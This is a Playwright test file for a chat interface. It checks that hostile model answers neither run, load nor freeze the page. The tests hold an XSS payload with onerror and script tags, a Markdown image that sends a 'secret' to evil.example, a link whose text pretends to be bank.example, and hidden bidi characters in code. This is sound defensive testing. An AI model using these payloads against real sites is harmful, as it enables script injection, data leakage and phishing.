"""Whatever a model writes, nothing of it runs, loads or freezes the page."""

from urllib.parse import urlsplit

import pytest
from playwright.async_api import expect

from tests.hostile import BOMBS, HTML, LOOKS, MARKDOWN
from tests.scripted import Upstream, words
from tests.window import Window

# What grows faster than the answer freezes the page for minutes. The limit tells that from a machine that is busy with
# other things, where one task of a quarter of a second has taken three; how long it takes is measured in bench.
LONGEST_TASK_MS = 8_000
_LINKS = "(rows) => rows.flatMap((row) => [...row.querySelectorAll('a')].map((link) => link.href))"
_FOREIGN = "script, iframe, object, embed, style, link, meta, base, form, dialog, svg[onload], video, audio, img"


async def _nothing_happened(screen: Window) -> None:
    page = screen.page
    assert await page.evaluate("window.ran") is None
    assert page.url.startswith(screen.watch.address)
    await expect(screen.answers.locator(_FOREIGN)).to_have_count(0)
    on = "(rows) => rows.flatMap((row) => [...row.querySelectorAll('*')]).flatMap((e) => e.getAttributeNames())"
    names = set(await screen.answers.evaluate_all(on))
    assert {name for name in names if name.startswith("on")} == set()
    for link in await screen.answers.evaluate_all(_LINKS):
        assert urlsplit(link).scheme in {"http", "https", "mailto"}, link
        assert not link.startswith(screen.watch.address), link
    await expect(screen.composer).to_be_visible()
    screen.watch.check()


@pytest.mark.parametrize("corpus", [HTML, LOOKS, MARKDOWN], ids=["html", "looks", "markdown"])
async def test_nothing_of_an_answer_runs_or_loads_when_it_comes_one_character_at_a_time(
    screen: Window, upstream: Upstream, corpus: list[str]
) -> None:
    for at in range(0, len(corpus), 10):
        text = "\n\nnext\n\n".join(corpus[at : at + 10]) + "\n\n"
        upstream.will(words(*text))
        answer = await screen.ask_and_wait(f"Part {at}")
        await expect(answer.locator("a:not([target=_blank][rel~=noreferrer])")).to_have_count(0)
        await _nothing_happened(screen)
    await screen.page.reload()
    await expect(screen.answers.last).to_be_visible()
    await _nothing_happened(screen)


@pytest.mark.parametrize("text", HTML[:40:4] + LOOKS[::3] + MARKDOWN[::6])
async def test_nothing_happens_when_an_answer_is_nothing_else(screen: Window, upstream: Upstream, text: str) -> None:
    upstream.will(words(*text))
    await screen.ask_and_wait("Go on")
    await _nothing_happened(screen)


async def test_a_remote_image_is_not_loaded_and_says_so(screen: Window, upstream: Upstream) -> None:
    upstream.will(words("Look: ![a chart](https://evil.example/p.png?secret=words)"))
    answer = await screen.ask_and_wait("Show me")
    note = answer.get_by_role("note")
    await expect(note).to_contain_text("Remote image not loaded: evil.example")
    await expect(note).to_contain_text("a chart")


async def test_a_link_that_says_another_place_shows_where_it_leads(screen: Window, upstream: Upstream) -> None:
    upstream.will(words("[https://bank.example](https://evil.example/login)"))
    answer = await screen.ask_and_wait("Where?")
    await expect(answer).to_contain_text("https://bank.example (evil.example)")


async def test_hidden_direction_characters_in_code_are_shown(screen: Window, upstream: Upstream) -> None:
    upstream.will(words("```py\nif access != 'user\u202e \u2066# admin\u2069 \u2066':\n```"))
    answer = await screen.ask_and_wait("Code, please")
    await expect(answer).to_contain_text("Contains hidden direction characters")
    await expect(answer).to_contain_text("U+202E")


async def test_a_hostile_question_and_title_are_only_text(screen: Window) -> None:
    text = "<img src=x onerror=window.ran=1> <script>window.ran=1</script>"
    await screen.ask_and_wait(text)
    await expect(screen.questions.last).to_contain_text(text)
    await expect(screen.chats.first).to_contain_text("<img src=x")
    await screen.page.keyboard.press("Control+Shift+F")
    await screen.page.get_by_role("combobox", name="Search your chats").fill("onerror")
    await expect(screen.page.get_by_role("option").first).to_contain_text("<img src=x")
    assert await screen.page.evaluate("window.ran") is None


@pytest.mark.parametrize("name", BOMBS)
async def test_a_huge_or_twisted_answer_does_not_freeze_the_page(screen: Window, upstream: Upstream, name: str) -> None:
    page, text = screen.page, BOMBS[name]
    await page.evaluate(
        """() => {
          window.longest = 0;
          new PerformanceObserver((list) => {
            for (const entry of list.getEntries()) window.longest = Math.max(window.longest, entry.duration);
          }).observe({ type: "longtask" });
        }"""
    )
    upstream.will(words(*(text[at : at + 20_000] for at in range(0, len(text), 20_000)), usage=None))
    await screen.ask("Be long")
    await expect(screen.answers.last).to_be_visible()
    # Somebody writes the next message meanwhile.
    await screen.composer.press_sequentially("still here", delay=20)
    await expect(screen.composer).to_have_value("still here")
    await screen.finished(screen.answers.last, 60)
    shown = await screen.answers.last.evaluate("(row) => row.textContent.length")
    assert shown > len(text) / 20, "a page that draws nothing is quick"
    assert await page.evaluate("window.longest") < LONGEST_TASK_MS
    await page.reload()
    await screen.finished(screen.answers.last, 60)
    await screen.composer.fill("and after")
    await expect(screen.composer).to_have_value("and after")
